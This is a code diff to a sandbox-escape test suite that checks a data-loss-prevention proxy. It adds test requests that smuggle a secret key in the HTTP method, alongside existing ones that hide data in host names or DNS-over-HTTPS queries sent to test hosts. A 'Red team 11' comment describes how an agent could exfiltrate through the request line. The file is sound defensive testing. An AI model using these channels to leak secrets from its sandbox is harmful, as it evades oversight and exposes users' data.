@@ -294,7 +294,10 @@ public abstract class SandboxEscapeSuite
             c host https://{{HexHost}}.wild.test:{{Home.Upstream.HttpsPort}}/dlp/host
             c doh -H 'Accept: application/dns-json' "{{https}}/resolve?name=example.com&type=A"
             c doh-get "{{https}}/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB"
+            c method -X '{{Key}}' {{https}}/dlp/method
+            c method-plain -X '{{Key}}' http://dlp.test:{{Home.Upstream.HttpPort}}/dlp/method-plain
             c control --data-binary '{"note":"an ordinary body"}' {{https}}/dlp/control
+            c control-propfind -X PROPFIND {{https}}/dlp/control-propfind
             c control-gzip -H 'Content-Encoding: gzip' --data-binary @/tmp/dlp-control.gz {{https}}/dlp/control-gzip
             c control-zstd -H 'Content-Encoding: zstd' --data-binary @/tmp/dlp-control.zst {{https}}/dlp/control-zstd
             c control-host https://ok.wild.test:{{Home.Upstream.HttpsPort}}/dlp/control-host
@@ -313,10 +316,17 @@ public abstract class SandboxEscapeSuite
             Assert.True(lines.TryGetValue(name, out var got) && got[0] == "403" && got[2] == "DnsOverHttps", $"{name}: {string.Join(' ', got ?? ["(no line)"])}\n{r.StandardOutput}");
         }
 
+        // Red team 11: the method is the agent's to choose and DLP does not read the request line; a method outside the
+        // IANA registry is refused by policy (control-propfind: a registered one that is not GET/POST passes).
+        foreach (var name in new[] { "method", "method-plain" })
+        {
+            Assert.True(lines.TryGetValue(name, out var got) && got[0] == "403" && got[2] == "UnregisteredMethod", $"{name}: {string.Join(' ', got ?? ["(no line)"])}\n{r.StandardOutput}");
+        }
+
         // The data-bearing host name is refused at CONNECT, before any TLS or upstream contact.
         Assert.True(lines.TryGetValue("host", out var host) && host[1] == "403" && host[2] == "Dlp", $"host: {string.Join(' ', host ?? ["(no line)"])}\n{r.StandardOutput}");
 
-        foreach (var control in new[] { "control", "control-gzip", "control-zstd", "control-host" })
+        foreach (var control in new[] { "control", "control-gzip", "control-zstd", "control-host", "control-propfind" })
         {
             Assert.True(lines.TryGetValue(control, out var got) && got[0] == "200", $"{control}: {string.Join(' ', got ?? ["(no line)"])}\n{r.StandardOutput}{r.StandardError}");
         }
